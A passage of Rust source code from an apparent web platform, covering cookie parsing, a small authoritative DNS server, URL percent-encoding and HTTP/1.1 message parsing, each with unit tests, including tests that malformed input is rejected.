    raw.split(';')
        .filter_map(|part| {
            let (name, value) = part.split_once('=')?;
            let name = name.trim();
            if name.is_empty() {
                return None;
            }
            Some(Cookie { name: name.to_string(), value: value.trim().to_string() })
        })
        .collect()
}

/// A `Set-Cookie` header under construction.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SetCookie {
    /// Cookie name.
    pub name: String,
    /// Cookie value.
    pub value: String,
    /// `Max-Age` in seconds; `None` = session cookie.
    pub max_age: Option<u64>,
    /// `HttpOnly` flag.
    pub http_only: bool,
    /// `Path` attribute.
    pub path: String,
}

impl SetCookie {
    /// A session cookie (HttpOnly, path=/): the platform's default for
    /// authentication tokens.
    pub fn session(name: &str, value: &str) -> SetCookie {
        SetCookie {
            name: name.to_string(),
            value: value.to_string(),
            max_age: None,
            http_only: true,
            path: "/".to_string(),
        }
    }

    /// A deletion cookie (Max-Age=0).
    pub fn delete(name: &str) -> SetCookie {
        SetCookie {
            name: name.to_string(),
            value: String::new(),
            max_age: Some(0),
            http_only: true,
            path: "/".to_string(),
        }
    }

    /// Render the header value.
    pub fn to_header_value(&self) -> String {
        let mut s = format!("{}={}", self.name, self.value);
        s.push_str(&format!("; Path={}", self.path));
        if let Some(age) = self.max_age {
            s.push_str(&format!("; Max-Age={age}"));
        }
        if self.http_only {
            s.push_str("; HttpOnly");
        }
        s
    }
}

impl fmt::Display for SetCookie {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_header_value())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_basic() {
        let cs = parse_cookie_header("sid=abc123; theme=dark");
        assert_eq!(cs.len(), 2);
        assert_eq!(cs[0], Cookie { name: "sid".into(), value: "abc123".into() });
        assert_eq!(cs[1], Cookie { name: "theme".into(), value: "dark".into() });
    }

    #[test]
    fn parse_skips_malformed() {
        let cs = parse_cookie_header("good=1; noequals; =novalue; also=2");
        assert_eq!(cs.len(), 2);
        assert_eq!(cs[0].name, "good");
        assert_eq!(cs[1].name, "also");
    }

    #[test]
    fn parse_empty_value() {
        let cs = parse_cookie_header("empty=");
        assert_eq!(cs, vec![Cookie { name: "empty".into(), value: String::new() }]);
    }

    #[test]
    fn session_cookie_renders_securely() {
        let sc = SetCookie::session("w5_session", "tok");
        let v = sc.to_header_value();
        assert_eq!(v, "w5_session=tok; Path=/; HttpOnly");
    }

    #[test]
    fn delete_cookie() {
        let v = SetCookie::delete("w5_session").to_header_value();
        assert!(v.contains("Max-Age=0"), "{v}");
    }
}
