//! The DNS front end (paper §2: "all of W5 should have DNS and HTTP
//! front-ends so that users can interact with a W5 application with
//! today's Web clients").
//!
//! A minimal authoritative DNS server for the provider's zone: every
//! hosted application gets a name (`photos.devA.w5.example`) resolving to
//! the provider's address, so ordinary browsers reach the gateway. The
//! wire format implementation covers what an authoritative A-record
//! server needs: header, question parsing (with compression-pointer
//! *rejection* on input names — questions never need them), A answers,
//! NXDOMAIN and FORMERR responses.
//!
//! UDP only, one response per query, no recursion (RA=0) — the shape of a
//! tiny authoritative server, with every peer-controlled length checked.

use w5_sync::RwLock;
use std::collections::HashMap;
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;

/// DNS wire-format errors.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum DnsError {
    /// Packet too short / truncated name.
    Truncated,
    /// Malformed name or unsupported construct.
    Malformed(&'static str),
}

/// Query/record types we understand.
pub const TYPE_A: u16 = 1;
/// The Internet class.
pub const CLASS_IN: u16 = 1;

/// A parsed question.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Question {
    /// Lowercased dotted name, without trailing dot.
    pub name: String,
    /// QTYPE.
    pub qtype: u16,
    /// QCLASS.
    pub qclass: u16,
}

/// Parse the name at `*pos`. Compression pointers are rejected (queries
/// never require them; accepting them in input is a classic DoS vector).
fn parse_name(buf: &[u8], pos: &mut usize) -> Result<String, DnsError> {
    let mut labels: Vec<String> = Vec::new();
    let mut total = 0usize;
    loop {
        let len = *buf.get(*pos).ok_or(DnsError::Truncated)? as usize;
        *pos += 1;
        if len == 0 {
            break;
        }
        if len & 0xc0 != 0 {
            return Err(DnsError::Malformed("compression pointer in question"));
        }
        if len > 63 {
            return Err(DnsError::Malformed("label too long"));
        }
        total += len + 1;
        if total > 255 {
            return Err(DnsError::Malformed("name too long"));
        }
        let end = *pos + len;
        let label = buf.get(*pos..end).ok_or(DnsError::Truncated)?;
        if !label.iter().all(|&b| b.is_ascii_graphic()) {
            return Err(DnsError::Malformed("non-printable label"));
        }
        labels.push(String::from_utf8_lossy(label).to_ascii_lowercase());
        *pos = end;
    }
    Ok(labels.join("."))
}

/// Append a name in wire format.
fn write_name(out: &mut Vec<u8>, name: &str) {
    for label in name.split('.').filter(|l| !l.is_empty()) {
        let bytes = label.as_bytes();
        out.push(bytes.len().min(63) as u8);
        out.extend_from_slice(&bytes[..bytes.len().min(63)]);
    }
    out.push(0);
}

fn get_u16(buf: &[u8], pos: usize) -> Result<u16, DnsError> {
    let b = buf.get(pos..pos + 2).ok_or(DnsError::Truncated)?;
    Ok(u16::from_be_bytes([b[0], b[1]]))
}

/// Parse a query packet: returns (id, question).
pub fn parse_query(buf: &[u8]) -> Result<(u16, Question), DnsError> {
    if buf.len() < 12 {
        return Err(DnsError::Truncated);
    }
    let id = get_u16(buf, 0)?;
    let flags = get_u16(buf, 2)?;
    if flags & 0x8000 != 0 {
        return Err(DnsError::Malformed("QR set on a query"));
    }
    let qdcount = get_u16(buf, 4)?;
    if qdcount != 1 {
        return Err(DnsError::Malformed("expected exactly one question"));
    }
    let mut pos = 12;
    let name = parse_name(buf, &mut pos)?;
    let qtype = get_u16(buf, pos)?;
    let qclass = get_u16(buf, pos + 2)?;
    Ok((id, Question { name, qtype, qclass }))
}

/// Build a query packet (client side / tests).
pub fn build_query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut out = Vec::with_capacity(32 + name.len());
    out.extend_from_slice(&id.to_be_bytes());
    out.extend_from_slice(&0x0100u16.to_be_bytes()); // RD (ignored by us)
    out.extend_from_slice(&1u16.to_be_bytes()); // QDCOUNT
    out.extend_from_slice(&[0; 6]); // AN/NS/AR
    write_name(&mut out, name);
    out.extend_from_slice(&qtype.to_be_bytes());
    out.extend_from_slice(&CLASS_IN.to_be_bytes());
    out
}

/// Response codes we emit.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Rcode {
    /// Success, with answers.
    NoError = 0,
    /// Malformed query.
    FormErr = 1,
    /// Name not in our zone data.
    NxDomain = 3,
}

/// Build a response to a (possibly absent) question.
pub fn build_response(
    id: u16,
    question: Option<&Question>,
    answers: &[Ipv4Addr],
    rcode: Rcode,
) -> Vec<u8> {
    let mut out = Vec::with_capacity(64);
    out.extend_from_slice(&id.to_be_bytes());
    // QR=1, AA=1, RA=0, RCODE.
    let flags: u16 = 0x8400 | rcode as u16;
    out.extend_from_slice(&flags.to_be_bytes());
    out.extend_from_slice(&(question.is_some() as u16).to_be_bytes());
    out.extend_from_slice(&(answers.len() as u16).to_be_bytes());
    out.extend_from_slice(&[0; 4]); // NS/AR
    if let Some(q) = question {
        write_name(&mut out, &q.name);
        out.extend_from_slice(&q.qtype.to_be_bytes());
        out.extend_from_slice(&q.qclass.to_be_bytes());
        for ip in answers {
            write_name(&mut out, &q.name);
            out.extend_from_slice(&TYPE_A.to_be_bytes());
            out.extend_from_slice(&CLASS_IN.to_be_bytes());
            out.extend_from_slice(&60u32.to_be_bytes()); // TTL
            out.extend_from_slice(&4u16.to_be_bytes());
            out.extend_from_slice(&ip.octets());
        }
    }
    out
}

/// Parse a response (client side / tests): (id, rcode, answer IPs).
pub fn parse_response(buf: &[u8]) -> Result<(u16, u8, Vec<Ipv4Addr>), DnsError> {
    if buf.len() < 12 {
        return Err(DnsError::Truncated);
    }
    let id = get_u16(buf, 0)?;
    let flags = get_u16(buf, 2)?;
    let rcode = (flags & 0xf) as u8;
    let qdcount = get_u16(buf, 4)?;
    let ancount = get_u16(buf, 6)?;
    let mut pos = 12;
    for _ in 0..qdcount {
        let _ = parse_name(buf, &mut pos)?;
        pos += 4;
    }
    let mut ips = Vec::new();
    for _ in 0..ancount {
        let _ = parse_name(buf, &mut pos)?;
        let rtype = get_u16(buf, pos)?;
        pos += 8; // type, class, ttl
        let rdlen = get_u16(buf, pos)? as usize;
        pos += 2;
        let rdata = buf.get(pos..pos + rdlen).ok_or(DnsError::Truncated)?;
        if rtype == TYPE_A && rdlen == 4 {
            ips.push(Ipv4Addr::new(rdata[0], rdata[1], rdata[2], rdata[3]));
        }
        pos += rdlen;
    }
    Ok((id, rcode, ips))
}

/// The provider's authoritative zone: name → address.
pub struct Zone {
    records: RwLock<HashMap<String, Ipv4Addr>>,
}

impl Default for Zone {
    fn default() -> Zone {
        Zone::new()
    }
}

impl Zone {
    /// An empty zone.
    pub fn new() -> Zone {
        Zone { records: RwLock::new("net.dns", HashMap::new()) }
    }

    /// Add/replace an A record (name is lowercased).
    pub fn insert(&self, name: &str, ip: Ipv4Addr) {
        self.records.write().insert(name.to_ascii_lowercase(), ip);
    }

    /// Look up a name.
    pub fn lookup(&self, name: &str) -> Option<Ipv4Addr> {
        self.records.read().get(&name.to_ascii_lowercase()).copied()
    }

    /// Populate `"<app>.<dev>.<zone>"` records for every app of a platform
    /// catalog, all pointing at the gateway address.
    pub fn publish_apps<'a, I: IntoIterator<Item = &'a str>>(
        &self,
        app_keys: I,
        zone_suffix: &str,
        gateway: Ipv4Addr,
    ) {
        for key in app_keys {
            if let Some((dev, app)) = key.split_once('/') {
                self.insert(&format!("{app}.{dev}.{zone_suffix}"), gateway);
            }
        }
        self.insert(zone_suffix, gateway);
    }

    /// Record count.
    pub fn len(&self) -> usize {
        self.records.read().len()
    }

    /// True if the zone holds no records.
    pub fn is_empty(&self) -> bool {
        self.records.read().is_empty()
    }
}

/// A running DNS server.
pub struct DnsServer {
    addr: SocketAddr,
    stop: Arc<AtomicBool>,
    thread: w5_sync::Mutex<Option<JoinHandle<()>>>,
    queries: Arc<AtomicU64>,
}

impl DnsServer {
    /// Bind a UDP socket (use port 0 to let the OS choose) and serve the
    /// zone on a background thread.
    pub fn start(addr: &str, zone: Arc<Zone>) -> std::io::Result<DnsServer> {
        let socket = UdpSocket::bind(addr)?;
        let local = socket.local_addr()?;
        let stop = Arc::new(AtomicBool::new(false));
        let queries = Arc::new(AtomicU64::new(0));

        let t_stop = Arc::clone(&stop);
        let t_queries = Arc::clone(&queries);
        let thread = std::thread::Builder::new()
            .name("w5-dns".into())
            .spawn(move || {
                let mut buf = [0u8; 512];
                loop {
                    let (n, peer) = match socket.recv_from(&mut buf) {
                        Ok(x) => x,
                        Err(_) => continue,
                    };
                    if t_stop.load(Ordering::SeqCst) {
                        break;
                    }
                    t_queries.fetch_add(1, Ordering::Relaxed);
                    let reply = match parse_query(&buf[..n]) {
                        Err(_) => build_response(
                            if n >= 2 { u16::from_be_bytes([buf[0], buf[1]]) } else { 0 },
                            None,
                            &[],
                            Rcode::FormErr,
                        ),
                        Ok((id, q)) => {
                            if q.qtype != TYPE_A || q.qclass != CLASS_IN {
                                build_response(id, Some(&q), &[], Rcode::NoError)
                            } else {
                                match zone.lookup(&q.name) {
                                    Some(ip) => build_response(id, Some(&q), &[ip], Rcode::NoError),
                                    None => build_response(id, Some(&q), &[], Rcode::NxDomain),
                                }
                            }
                        }
                    };
                    let _ = socket.send_to(&reply, peer);
                }
            })?;

        Ok(DnsServer {
            addr: local,
            stop,
            thread: w5_sync::Mutex::new("net.dns_thread", Some(thread)),
            queries,
        })
    }

    /// The bound address.
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// Queries served so far.
    pub fn queries_served(&self) -> u64 {
        self.queries.load(Ordering::Relaxed)
    }

    /// Stop the server and join its thread.
    pub fn shutdown(&self) {
        if self.stop.swap(true, Ordering::SeqCst) {
            return;
        }
        // Wake the blocking recv with a dummy packet.
        if let Ok(s) = UdpSocket::bind("127.0.0.1:0") {
            let _ = s.send_to(&[0u8; 12], self.addr);
        }
        if let Some(h) = self.thread.lock().take() {
            let _ = h.join();
        }
    }
}

/// One-shot A lookup against a specific server (client side / tests).
pub fn resolve(server: SocketAddr, name: &str) -> std::io::Result<Option<Vec<Ipv4Addr>>> {
    let socket = UdpSocket::bind("127.0.0.1:0")?;
    socket.set_read_timeout(Some(std::time::Duration::from_secs(2)))?;
    let id = (std::process::id() as u16) ^ 0x55aa;
    socket.send_to(&build_query(id, name, TYPE_A), server)?;
    let mut buf = [0u8; 512];
    let (n, _) = socket.recv_from(&mut buf)?;
    match parse_response(&buf[..n]) {
        Ok((rid, rcode, ips)) if rid == id => {
            if rcode == Rcode::NxDomain as u8 {
                Ok(None)
            } else {
                Ok(Some(ips))
            }
        }
        _ => Ok(None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn query_roundtrip() {
        let q = build_query(0x1234, "photos.devA.w5.example", TYPE_A);
        let (id, question) = parse_query(&q).unwrap();
        assert_eq!(id, 0x1234);
        assert_eq!(question.name, "photos.deva.w5.example", "names lowercase");
        assert_eq!(question.qtype, TYPE_A);
        assert_eq!(question.qclass, CLASS_IN);
    }

    #[test]
    fn response_roundtrip() {
        let q = Question { name: "a.b".into(), qtype: TYPE_A, qclass: CLASS_IN };
        let ip = Ipv4Addr::new(10, 1, 2, 3);
        let r = build_response(7, Some(&q), &[ip], Rcode::NoError);
        let (id, rcode, ips) = parse_response(&r).unwrap();
        assert_eq!(id, 7);
        assert_eq!(rcode, 0);
        assert_eq!(ips, vec![ip]);
    }

    #[test]
    fn malformed_inputs_rejected() {
        assert_eq!(parse_query(&[]), Err(DnsError::Truncated));
        assert_eq!(parse_query(&[0u8; 11]), Err(DnsError::Truncated));
        // A response is not a query.
        let q = Question { name: "x".into(), qtype: TYPE_A, qclass: CLASS_IN };
        let resp = build_response(1, Some(&q), &[], Rcode::NoError);
        assert!(matches!(parse_query(&resp), Err(DnsError::Malformed(_))));
        // Compression pointer in the question.
        let mut evil = build_query(1, "x", TYPE_A);
        evil[12] = 0xc0;
        assert!(matches!(parse_query(&evil), Err(DnsError::Malformed(_))));
        // Two questions.
        let mut two = build_query(1, "x", TYPE_A);
        two[5] = 2;
        assert!(matches!(parse_query(&two), Err(DnsError::Malformed(_))));
    }

    #[test]
    fn name_length_limits() {
        let long_label = "a".repeat(64);
        let mut buf = vec![0u8; 12];
        buf[5] = 1; // QDCOUNT
        buf.push(64);
        buf.extend_from_slice(long_label.as_bytes());
        buf.push(0);
        buf.extend_from_slice(&[0, 1, 0, 1]);
        assert!(matches!(parse_query(&buf), Err(DnsError::Malformed(_))));
    }

    #[test]
    fn zone_publishing() {
        let zone = Zone::new();
        assert!(zone.is_empty());
        zone.publish_apps(
            ["devA/photos", "devB/blog"],
            "w5.example",
            Ipv4Addr::new(127, 0, 0, 1),
        );
        assert_eq!(zone.len(), 3); // two apps + apex
        assert_eq!(zone.lookup("photos.deva.w5.example"), Some(Ipv4Addr::new(127, 0, 0, 1)));
        assert_eq!(zone.lookup("PHOTOS.DEVA.W5.EXAMPLE"), Some(Ipv4Addr::new(127, 0, 0, 1)));
        assert_eq!(zone.lookup("w5.example"), Some(Ipv4Addr::new(127, 0, 0, 1)));
        assert_eq!(zone.lookup("ghost.w5.example"), None);
    }

    #[test]
    fn server_answers_over_udp() {
        let zone = Arc::new(Zone::new());
        zone.insert("photos.deva.w5.example", Ipv4Addr::new(10, 0, 0, 42));
        let server = DnsServer::start("127.0.0.1:0", Arc::clone(&zone)).unwrap();

        // Hit.
        let ips = resolve(server.addr(), "photos.devA.w5.example").unwrap().unwrap();
        assert_eq!(ips, vec![Ipv4Addr::new(10, 0, 0, 42)]);
        // Miss → NXDOMAIN.
        assert_eq!(resolve(server.addr(), "nope.w5.example").unwrap(), None);
        // Garbage → FORMERR, server stays alive.
        let s = UdpSocket::bind("127.0.0.1:0").unwrap();
        s.send_to(b"garbage", server.addr()).unwrap();
        let ips = resolve(server.addr(), "photos.deva.w5.example").unwrap().unwrap();
        assert_eq!(ips.len(), 1);
        assert!(server.queries_served() >= 3);

        server.shutdown();
        server.shutdown(); // idempotent
    }
}
