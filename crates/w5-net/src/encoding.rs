//! Percent-encoding, query strings and form bodies.

/// Percent-encode a string for use in a URL component. Unreserved
/// characters (RFC 3986 §2.3) pass through; everything else is `%XX`.
pub fn percent_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for &b in s.as_bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            _ => {
                out.push('%');
                out.push(hex_digit(b >> 4));
                out.push(hex_digit(b & 0xf));
            }
        }
    }
    out
}

/// Decode a percent-encoded string. `+` decodes to space (form semantics).
/// Invalid escapes are passed through literally rather than erroring —
/// lenient parsing, strict generation.
pub fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'%' if i + 2 < bytes.len() + 1 => {
                match (hex_val(bytes.get(i + 1)), hex_val(bytes.get(i + 2))) {
                    (Some(h), Some(l)) => {
                        out.push(h << 4 | l);
                        i += 3;
                    }
                    _ => {
                        out.push(b'%');
                        i += 1;
                    }
                }
            }
            b'+' => {
                out.push(b' ');
                i += 1;
            }
            b => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn hex_digit(v: u8) -> char {
    b"0123456789ABCDEF"[(v & 0xf) as usize] as char
}

fn hex_val(b: Option<&u8>) -> Option<u8> {
    b.and_then(|&b| (b as char).to_digit(16)).map(|d| d as u8)
}

/// Parse a query string (or form body) into key/value pairs, decoding both
/// sides. Order is preserved; duplicate keys are kept.
pub fn parse_query(qs: &str) -> Vec<(String, String)> {
    qs.split('&')
        .filter(|part| !part.is_empty())
        .map(|part| match part.split_once('=') {
            Some((k, v)) => (percent_decode(k), percent_decode(v)),
            None => (percent_decode(part), String::new()),
        })
        .collect()
}

/// Serialize key/value pairs as a query string / form body.
pub fn encode_query<'a, I: IntoIterator<Item = (&'a str, &'a str)>>(pairs: I) -> String {
    let mut out = String::new();
    for (k, v) in pairs {
        if !out.is_empty() {
            out.push('&');
        }
        out.push_str(&percent_encode(k));
        out.push('=');
        out.push_str(&percent_encode(v));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encode_unreserved_passthrough() {
        assert_eq!(percent_encode("AZaz09-_.~"), "AZaz09-_.~");
    }

    #[test]
    fn encode_special() {
        assert_eq!(percent_encode("a b&c=d"), "a%20b%26c%3Dd");
        assert_eq!(percent_encode("héllo"), "h%C3%A9llo");
    }

    #[test]
    fn decode_roundtrip() {
        for s in ["hello world", "a&b=c", "héllo✓", "100%", ""] {
            assert_eq!(percent_decode(&percent_encode(s)), s);
        }
    }

    #[test]
    fn decode_plus_and_invalid_escapes() {
        assert_eq!(percent_decode("a+b"), "a b");
        assert_eq!(percent_decode("100%"), "100%");
        assert_eq!(percent_decode("%zz"), "%zz");
        assert_eq!(percent_decode("%4"), "%4");
    }

    #[test]
    fn query_parsing() {
        let q = parse_query("a=1&b=two+words&c&=empty&d=%26");
        assert_eq!(
            q,
            vec![
                ("a".to_string(), "1".to_string()),
                ("b".to_string(), "two words".to_string()),
                ("c".to_string(), String::new()),
                (String::new(), "empty".to_string()),
                ("d".to_string(), "&".to_string()),
            ]
        );
        assert!(parse_query("").is_empty());
    }

    #[test]
    fn query_roundtrip() {
        let pairs = [("user", "bob smith"), ("q", "a&b=c"), ("empty", "")];
        let s = encode_query(pairs.iter().map(|&(k, v)| (k, v)));
        let parsed = parse_query(&s);
        assert_eq!(
            parsed,
            pairs
                .iter()
                .map(|&(k, v)| (k.to_string(), v.to_string()))
                .collect::<Vec<_>>()
        );
    }
}
