//! HTTP/1.1 message types and wire parsing.
//!
//! The parser enforces hard limits on everything the peer controls:
//! request-line length, header count and size, and body size. Exceeding a
//! limit is an error, never an unbounded allocation.

use crate::encoding::{parse_query, percent_decode};
use bytes::Bytes;
use std::collections::BTreeMap;
use std::fmt;
use std::io::{BufRead, BufReader, Read, Write};

/// Parse / IO errors for HTTP messages.
#[derive(Debug)]
pub enum HttpError {
    /// Malformed request line, header or chunk framing.
    Malformed(&'static str),
    /// A configured limit was exceeded.
    TooLarge(&'static str),
    /// The method is not one we implement.
    UnsupportedMethod(String),
    /// Underlying IO failed.
    Io(std::io::Error),
    /// Peer closed before a full message arrived.
    UnexpectedEof,
}

impl fmt::Display for HttpError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            HttpError::Malformed(w) => write!(f, "malformed HTTP message: {w}"),
            HttpError::TooLarge(w) => write!(f, "message exceeds limit: {w}"),
            HttpError::UnsupportedMethod(m) => write!(f, "unsupported method: {m}"),
            HttpError::Io(e) => write!(f, "io error: {e}"),
            HttpError::UnexpectedEof => write!(f, "connection closed mid-message"),
        }
    }
}

impl HttpError {
    /// Failures worth retrying: the connection dropped, timed out, or the
    /// peer vanished mid-message — the request may simply be re-sent.
    /// Protocol violations (malformed framing, oversized messages) are
    /// permanent and must not be retried.
    pub fn is_transient(&self) -> bool {
        matches!(self, HttpError::Io(_) | HttpError::UnexpectedEof)
    }
}

impl std::error::Error for HttpError {}

impl From<std::io::Error> for HttpError {
    fn from(e: std::io::Error) -> Self {
        HttpError::Io(e)
    }
}

/// Request methods.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Method {
    Get,
    Post,
    Put,
    Delete,
    Head,
    Options,
}

impl Method {
    /// Parse from the request line token.
    pub fn parse(s: &str) -> Result<Method, HttpError> {
        Ok(match s {
            "GET" => Method::Get,
            "POST" => Method::Post,
            "PUT" => Method::Put,
            "DELETE" => Method::Delete,
            "HEAD" => Method::Head,
            "OPTIONS" => Method::Options,
            other => return Err(HttpError::UnsupportedMethod(other.to_string())),
        })
    }

    /// The wire token.
    pub fn as_str(self) -> &'static str {
        match self {
            Method::Get => "GET",
            Method::Post => "POST",
            Method::Put => "PUT",
            Method::Delete => "DELETE",
            Method::Head => "HEAD",
            Method::Options => "OPTIONS",
        }
    }
}

impl fmt::Display for Method {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Response status codes used by the platform.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Status(pub u16);

impl Status {
    pub const OK: Status = Status(200);
    pub const CREATED: Status = Status(201);
    pub const NO_CONTENT: Status = Status(204);
    pub const SEE_OTHER: Status = Status(303);
    pub const BAD_REQUEST: Status = Status(400);
    pub const UNAUTHORIZED: Status = Status(401);
    pub const FORBIDDEN: Status = Status(403);
    pub const NOT_FOUND: Status = Status(404);
    pub const METHOD_NOT_ALLOWED: Status = Status(405);
    pub const PAYLOAD_TOO_LARGE: Status = Status(413);
    pub const TOO_MANY_REQUESTS: Status = Status(429);
    pub const INTERNAL_ERROR: Status = Status(500);
    pub const SERVICE_UNAVAILABLE: Status = Status(503);

    /// Canonical reason phrase.
    pub fn reason(self) -> &'static str {
        match self.0 {
            200 => "OK",
            201 => "Created",
            204 => "No Content",
            303 => "See Other",
            400 => "Bad Request",
            401 => "Unauthorized",
            403 => "Forbidden",
            404 => "Not Found",
            405 => "Method Not Allowed",
            413 => "Payload Too Large",
            429 => "Too Many Requests",
            500 => "Internal Server Error",
            503 => "Service Unavailable",
            _ => "Unknown",
        }
    }

    /// 2xx?
    pub fn is_success(self) -> bool {
        (200..300).contains(&self.0)
    }
}

/// Parser limits. The defaults are generous for the platform's workloads
/// and small enough to shrug off hostile input.
#[derive(Clone, Copy, Debug)]
pub struct Limits {
    /// Maximum request-line / header-line bytes.
    pub max_line: usize,
    /// Maximum number of headers.
    pub max_headers: usize,
    /// Maximum body bytes (fixed or chunked).
    pub max_body: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits { max_line: 8 * 1024, max_headers: 100, max_body: 8 << 20 }
    }
}

/// A parsed request.
#[derive(Clone, Debug)]
pub struct Request {
    /// The method.
    pub method: Method,
    /// Decoded path, e.g. `/app/photo/view`.
    pub path: String,
    /// Raw query string (undecoded), without the `?`.
    pub query_raw: String,
    /// Headers, keys lowercased.
    pub headers: BTreeMap<String, String>,
    /// The body.
    pub body: Bytes,
}

impl Request {
    /// A GET request skeleton (tests / client).
    pub fn get(path: &str) -> Request {
        Request {
            method: Method::Get,
            path: path.to_string(),
            query_raw: String::new(),
            headers: BTreeMap::new(),
            body: Bytes::new(),
        }
    }

    /// Header value by case-insensitive name.
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(&name.to_ascii_lowercase()).map(String::as_str)
    }

    /// Decoded query parameters.
    pub fn query(&self) -> Vec<(String, String)> {
        parse_query(&self.query_raw)
    }

    /// First query parameter with the given key.
    pub fn query_param(&self, key: &str) -> Option<String> {
        self.query().into_iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    /// Parse the body as a `application/x-www-form-urlencoded` form.
    pub fn form(&self) -> Vec<(String, String)> {
        parse_query(&String::from_utf8_lossy(&self.body))
    }

    /// First form field with the given key.
    pub fn form_param(&self, key: &str) -> Option<String> {
        self.form().into_iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    /// Cookie value by name.
    pub fn cookie(&self, name: &str) -> Option<String> {
        let raw = self.header("cookie")?;
        crate::cookie::parse_cookie_header(raw)
            .into_iter()
            .find(|c| c.name == name)
            .map(|c| c.value)
    }

    /// Does the client ask to keep the connection alive?
    pub fn keep_alive(&self) -> bool {
        match self.header("connection").map(str::to_ascii_lowercase) {
            Some(v) if v.contains("close") => false,
            _ => true, // HTTP/1.1 default
        }
    }

    /// Read and parse one request from a buffered stream.
    pub fn read_from<R: BufRead>(r: &mut R, limits: &Limits) -> Result<Request, HttpError> {
        let line = read_line(r, limits.max_line)?;
        if line.is_empty() {
            return Err(HttpError::UnexpectedEof);
        }
        let mut parts = line.split(' ');
        let method = Method::parse(parts.next().unwrap_or(""))?;
        let target = parts.next().ok_or(HttpError::Malformed("missing request target"))?;
        let version = parts.next().ok_or(HttpError::Malformed("missing HTTP version"))?;
        if parts.next().is_some() {
            return Err(HttpError::Malformed("extra tokens in request line"));
        }
        if version != "HTTP/1.1" && version != "HTTP/1.0" {
            return Err(HttpError::Malformed("unsupported HTTP version"));
        }
        let (path_raw, query_raw) = match target.split_once('?') {
            Some((p, q)) => (p, q.to_string()),
            None => (target, String::new()),
        };
        if !path_raw.starts_with('/') {
            return Err(HttpError::Malformed("request target must be absolute path"));
        }
        let path = percent_decode(path_raw);

        let headers = read_headers(r, limits)?;
        let body = read_body(r, &headers, limits)?;
        Ok(Request { method, path, query_raw, headers, body })
    }

    /// Serialize onto a stream (client side).
    pub fn write_to<W: Write>(&self, w: &mut W) -> Result<(), HttpError> {
        let target = if self.query_raw.is_empty() {
            self.path.clone()
        } else {
            format!("{}?{}", self.path, self.query_raw)
        };
        write!(w, "{} {} HTTP/1.1\r\n", self.method, target)?;
        for (k, v) in &self.headers {
            write!(w, "{k}: {v}\r\n")?;
        }
        if !self.body.is_empty() || self.method == Method::Post || self.method == Method::Put {
            write!(w, "content-length: {}\r\n", self.body.len())?;
        }
        write!(w, "\r\n")?;
        w.write_all(&self.body)?;
        w.flush()?;
        Ok(())
    }
}

/// A response.
#[derive(Clone, Debug)]
pub struct Response {
    /// Status code.
    pub status: Status,
    /// Headers, keys lowercased.
    pub headers: BTreeMap<String, String>,
    /// Body bytes.
    pub body: Bytes,
}

impl Response {
    /// An empty response with a status.
    pub fn new(status: Status) -> Response {
        Response { status, headers: BTreeMap::new(), body: Bytes::new() }
    }

    /// 200 with a `text/html` body.
    pub fn html(body: impl Into<String>) -> Response {
        Response::new(Status::OK)
            .with_header("content-type", "text/html; charset=utf-8")
            .with_body(Bytes::from(body.into()))
    }

    /// 200 with a `text/plain` body.
    pub fn text(body: impl Into<String>) -> Response {
        Response::new(Status::OK)
            .with_header("content-type", "text/plain; charset=utf-8")
            .with_body(Bytes::from(body.into()))
    }

    /// 200 with an `application/json` body.
    pub fn json(body: impl Into<String>) -> Response {
        Response::new(Status::OK)
            .with_header("content-type", "application/json")
            .with_body(Bytes::from(body.into()))
    }

    /// An error response with a plain-text body.
    pub fn error(status: Status, msg: &str) -> Response {
        Response::new(status)
            .with_header("content-type", "text/plain; charset=utf-8")
            .with_body(Bytes::from(format!("{} {}\n{msg}\n", status.0, status.reason())))
    }

    /// 303 redirect.
    pub fn redirect(location: &str) -> Response {
        Response::new(Status::SEE_OTHER).with_header("location", location)
    }

    /// Builder: set a header (lowercased key).
    pub fn with_header(mut self, name: &str, value: &str) -> Response {
        self.headers.insert(name.to_ascii_lowercase(), value.to_string());
        self
    }

    /// Builder: set the body.
    pub fn with_body(mut self, body: Bytes) -> Response {
        self.body = body;
        self
    }

    /// Header value by case-insensitive name.
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(&name.to_ascii_lowercase()).map(String::as_str)
    }

    /// Append a `Set-Cookie` header (multiple allowed; stored with an index
    /// suffix internally and expanded on write).
    pub fn add_set_cookie(&mut self, sc: &crate::cookie::SetCookie) {
        let n = self
            .headers
            .keys()
            .filter(|k| k.starts_with("set-cookie"))
            .count();
        let key = if n == 0 { "set-cookie".to_string() } else { format!("set-cookie#{n}") };
        self.headers.insert(key, sc.to_header_value());
    }

    /// Serialize onto a stream.
